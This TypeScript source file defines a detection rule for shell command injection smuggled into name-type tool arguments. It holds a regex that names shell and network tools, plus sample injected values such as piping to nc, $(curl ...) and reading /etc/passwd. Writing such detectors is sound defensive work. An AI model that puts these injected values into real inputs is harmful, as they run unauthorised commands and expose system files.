import type { Rule } from '../../rule.ts';
import { PRIVILEGE_CHANGE } from '../privilege_change/format.ts';
import { called } from './call.ts';

/** Parameters that take a name, never a command. */
const FIELDS =
  'host|hostname|domain|ip|ip_address|addr|address|server|target|url|uri|file|filename|file_name|path|file_path|filepath|dir|directory|folder|name|username|user|email|id|user_id|item_id|branch|ref|tag|repo|repository|package|package_name|version|query|q|search|keyword|city|location|lang|language|format|title|subject|to|from|date|port|bucket|key|table|column|project';
const PROGRAM = String.raw`(?:id|whoami|uname|hostname|cat|ls|nc|ncat|curl|wget|bash|sh|zsh|python[23]?|perl|ruby|php|node|sleep|ping|nslookup|dig|env|printenv|rm|touch|echo|powershell|cmd|net|ipconfig|ifconfig|type|dir|tee|base64|kill|reboot|chmod|mkfifo|telnet|socat|certutil|timeout)(?:\.exe)?`;
/** `${IFS}`, `{cat,/etc/passwd}`, `%20`: what stands for a blank where none may. */
const GAP = String.raw`(?:[ \t+]|%20|%09|\$\{?IFS\}?(?:\$9)?|<|,|\\t){1,3}`;
const ARGUMENT = String.raw`(?:${GAP}[^"\r\n]{1,80}?)?`;

/** A command in an argument of another kind: what comes of it in a tool that hands the argument to a shell. */
export const CALLED_ARGUMENT_RULES: readonly Rule[] = [
  called({
    ...PRIVILEGE_CHANGE,
    pattern: 'shell_exec',
    id: 'command_in_argument',
    severity: 'high',
    confidence: 'medium',
    source: 'https://owasp.org/www-community/attacks/Command_Injection',
    remedy: 'Find out whether the tool handed its argument to a shell, and who put the command there.',
    within: 0,
    begins: [
      [
        `"(?:${FIELDS})"[ \\t]{0,2}:[ \\t]{0,2}"(?:[^"\\\\\\s]{0,80}[ \\t]?|[^"\\\\\\r\\n]{0,40}\\.[a-z]{2,5}[ \\t]{0,2})(?:(?:;|\\|{1,2}|&{1,2}|%0a|%0d%0a|\\\\n|%3b|%7c|%26%26)[ \\t]{0,2}(?:[/\\w?*]{0,12}/)?${PROGRAM}(?:${GAP}[^"\\r\\n=]{1,120}|[ \\t]{0,2}(?:[;|&#]{1,2}[^"\\r\\n]{0,80})?)"|(?:\\$\\(|\\x60|\\{)[ \\t]{0,2}(?:[/\\w?*]{0,12}/)?${PROGRAM}${ARGUMENT}[)\\x60}])`,
        FIELDS.split('|')
          .map((field) => `"${field}"`)
          .join(','),
      ],
      [
        String.raw`(?:;|\|{1,2}|&&|\$\(|\x60)[ \t]{0,2}(?:cat|sleep|ping|nslookup|curl|wget)(?:\$\{?IFS\}?(?:\$9)?|%20|%09|<)[^\s"]{1,80}`,
        'sleep$,cat$,ping$,nslookup$,curl$,wget$,sleep%,cat%,ping%,nslookup%,curl%,wget%,cat<,sleep<,ping<,nslookup<,curl<,wget<',
      ],
    ],
    describes:
      'A shell command within an argument that takes a name: it runs where a tool builds a command of it.',
    get finds() {
      return [
        '{"host":"192.0.2.1; id"}',
        '{"filename":"a.png|nc 192.0.2.1 99"}',
        '{"domain":"$(curl http://x.example)"}',
        '{"host":"x\x60sleep 5\x60"}',
        '{"path":"a.txt%0acat%20/etc/passwd"}',
        '{"branch":"main;{cat,/etc/passwd}"}',
        '{"name":"a && nslookup x.example"}',
        '{"ip":"127.0.0.1;sleep${IFS}5"}',
      ];
    },
    get ignores() {
      return [
        '{"command":"cat a; id"}',
        '{"url":"https://x.example/?a=1&id=2"}',
        '{"query":"how to use cat | sort"}',
        '{"path":"src/a.ts","content":"x; sleep 1"}',
        '{"title":"Fix the build & test"}',
        '{"query":"SELECT a FROM b; SELECT 1"}',
        '{"name":"${name}"}',
      ];
    },
  }),
];
